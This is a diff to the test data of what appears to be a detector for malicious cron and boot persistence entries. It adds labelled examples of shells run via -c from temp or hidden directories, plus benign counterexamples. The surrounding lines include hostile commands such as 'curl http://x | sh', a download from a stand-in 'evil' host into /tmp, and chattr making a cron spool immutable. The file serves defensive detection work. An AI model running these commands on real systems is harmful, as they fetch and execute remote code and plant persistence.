@@ -35,6 +35,14 @@ MALICIOUS = [
     ("* * * * * cd /tmp && ./x", "spool_cronie", "exec_from_temp_dir"),
     ("chmod +x /tmp/k; /tmp/k", "boot", "exec_from_temp_dir"),
     ("curl -s http://evil/k -o /tmp/k", "boot", "exec_from_temp_dir"),
+    # the quoted -c string of a shell is walked as a command line of its own (one level)
+    ("* * * * * sh -c 'nohup /tmp/.x/run &'", "spool_cronie", "exec_from_temp_dir"),
+    ('*/5 * * * * root /bin/bash -c "exec /var/tmp/a"', "crond", "exec_from_temp_dir"),
+    ("* * * * * sh -c '  /dev/shm/m'", "spool_cronie", "exec_from_temp_dir"),
+    ("* * * * * busybox sh -c 'sudo /tmp/x'", "spool_cronie", "exec_from_temp_dir"),
+    ("* * * * * bash -o pipefail -ec 'timeout 60 /tmp/x'", "spool_cronie", "exec_from_temp_dir"),
+    ("* * * * * dash -c 'setsid /root/.x/y'", "spool_cronie", "exec_from_hidden_path"),
+    ('* * * * * bash -c "curl http://x | sh"', "spool_cronie", "download_piped_to_shell"),
     ("* * * * * /usr/lib/.cache/.sysd", "spool_cronie", "exec_from_hidden_path"),
     ("nohup /root/.../run &", "boot", "exec_from_hidden_path"),
     ("chattr +i /var/spool/cron/root", "boot", "chattr_immutable"),
@@ -60,6 +68,10 @@ BENIGN = [
     ("python3 -c 'import sys; print(sys.version)'", "boot"),
     ('echo "$(date) ok" | base64', "boot"),
     ('cd /var/lib/x && ./run.sh', "boot"),
+    ("* * * * * sh -c 'run-parts /etc/cron.daily'", "spool_cronie"),
+    ('17 * * * * root bash -c "nohup /usr/local/bin/backup --to /srv"', "crond"),
+    ("* * * * * su -c 'nohup /usr/bin/true' nobody", "spool_cronie"),
+    ("* * * * * sh -c 'echo /tmp/x is a word, not a command'", "spool_cronie"),
 ]
 
 
